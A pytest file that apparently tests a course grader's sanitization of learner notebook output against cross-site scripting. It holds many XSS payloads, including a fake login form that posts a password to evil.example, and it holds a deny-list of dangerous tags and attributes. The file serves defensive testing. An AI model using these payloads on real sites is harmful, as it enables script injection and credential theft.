"""What a learner's code puts into outputs, names and messages is text on the page and nothing more."""

# ruff: noqa: E501 - a trick is a line

from __future__ import annotations

import json
import re

import pytest
from bs4 import BeautifulSoup

from lms.grading import grade, render_feedback

from . import build

pytestmark = pytest.mark.sandbox
EVIL = "<img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)><a href=javascript:alert(4)>x</a>"
OUTPUTS = {
    "html": f"from IPython.display import HTML, display\ndisplay(HTML('''{EVIL}'''))",
    "repr_html": f"class E:\n    def _repr_html_(self): return '''{EVIL}'''\nE()",
    "markdown": "from IPython.display import Markdown\nMarkdown('[x](javascript:alert(1)) <iframe src=//evil.example></iframe> ![x](http://evil.example/x.png)')",
    "latex": "from IPython.display import Latex\nLatex(r'$\\href{javascript:alert(1)}{x}$<script>alert(1)</script>')",
    "svg": f"from IPython.display import SVG\nSVG('''<svg xmlns=\"http://www.w3.org/2000/svg\">{EVIL}</svg>''')",
    "javascript": "from IPython.display import Javascript\nJavascript('alert(1)')",
    "mimes": f"from IPython.display import publish_display_data\npublish_display_data({{'application/javascript': 'alert(1)', 'text/html': '''{EVIL}''', 'image/svg+xml': '<svg onload=alert(1)>', 'application/vnd.x': {{'a': 1}}, 'image/png': '\"><script>alert(1)</script>'}})",
    "picture": "class E:\n    def _repr_png_(self): return b'<script>alert(1)</script>'\nE()",
    "style": "from IPython.display import HTML\nHTML('<style>*{display:none}</style><link rel=stylesheet href=//evil.example><base href=//evil.example><form action=//evil.example><input name=password></form><meta http-equiv=refresh content=0>')",
    "stdout": f"print('''{EVIL}''')",
    "ansi": "print('\\x1b]8;;javascript:alert(1)\\x07x\\x1b]8;;\\x07\\x1b[2J\\x1b[31m<script>alert(1)</script>')",
    "surrogates": "print('\\ud800<script>\\udfff\\u202e\\x00\\x08')",
    "error_name": f"E = type('''{EVIL}''', (Exception,), {{}})\nraise E('''{EVIL}''')",
    "error_text": f"raise ValueError('''{EVIL}''' * 1000)",
    "comment": f"# {EVIL} </pre></code></textarea>",
    "breaking_out": "from IPython.display import HTML\nHTML('</div></div></section></body></html>' * 50 + '<!--')",
    "repr_fails": "class E:\n    def _repr_html_(self): raise SystemExit\n    def __repr__(self): raise KeyboardInterrupt\nE()",
    "odd_mimes": "class E:\n    def _repr_mimebundle_(self, **k): return {'text/html': 5, 5: 'x', 'text/plain': b'\\xff', 'image/png': None}, {'a': object()}\nE()",
    "flood": "import sys\nfor _ in range(50): print('<script>' * 100000)\nsys.stdout.write('x' * 10 ** 8)",
    "many_displays": "from IPython.display import display, HTML\nfor n in range(5000): display(HTML('<script>1</script>'))",
    "shell": "!printf '<script>alert(1)</script>\\033]0;x\\007'",
    "cell_magic": "%%html\n<script>alert(1)</script>",
}
_ALIVE = re.compile(r"^on|^formaction$|^srcdoc$", re.I)
_DEAD_TAGS = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "link",
    "meta",
    "base",
    "svg",
    "math",
    "textarea",
}


def assert_dead(page):
    for element in BeautifulSoup(page, "html.parser").find_all(True):
        assert element.name not in _DEAD_TAGS, element.name
        for name, value in element.attrs.items():
            assert not _ALIVE.search(name), (element.name, name)
            assert name not in ("href", "src") or value.startswith(("#", "data:image/")), (
                element.name,
                name,
                value[:80],
            )


@pytest.mark.parametrize("name", OUTPUTS)
def test_an_output_is_dead_and_costs_nothing(sums, name):
    source = OUTPUTS[name]
    made = build.handed_in(sums, q2="def mean(xs):\n    return sum(xs) / len(xs)")
    made["cells"].insert(1, build.cell(source))
    result = grade(sums, build.packed(made))
    assert [check.points for check in result.checks] == [0, 2]
    assert len(json.dumps(result.feedback)) < 12_000_000
    page = render_feedback(result)
    assert_dead(page)


@pytest.mark.parametrize(
    "text", [EVIL, "\x1b[31m" + EVIL, "{0.__class__} {name} %s %(x)s", "`x`\n\n# " + EVIL, "x" * 10_000]
)
def test_a_message_holds_her_words_as_text(sums, text):
    """An error of hers that a visible check meets is told in the message and on the page."""
    made = build.handed_in(sums, q1=f"def total(xs):\n    raise ValueError({text!r})")
    result = grade(sums, build.packed(made))
    assert result.outcome == "graded"
    assert len(result.checks[0].message) < 2_000
    assert "\x1b" not in result.checks[0].message
    assert_dead(render_feedback(result))


def test_an_answer_in_words_is_text_too(tmp_path):
    words = build.cell("왜?", build.nbgrader("w", grade=True, solution=True, points=3), "markdown")
    exercise = build.bare(tmp_path, build.answer("q1", "x = 1"), build.check("q1-test", "assert x == 1"), words)
    made = build.handed_in(
        exercise, q1="x = 1", w=f"{EVIL}\n\n[x](javascript:alert(1)) <iframe src=x></iframe>\n\n$$<script>$$"
    )
    build.find(made, "w")["attachments"] = {"x.svg": {"image/svg+xml": EVIL}}
    assert_dead(render_feedback(grade(exercise, build.packed(made))))
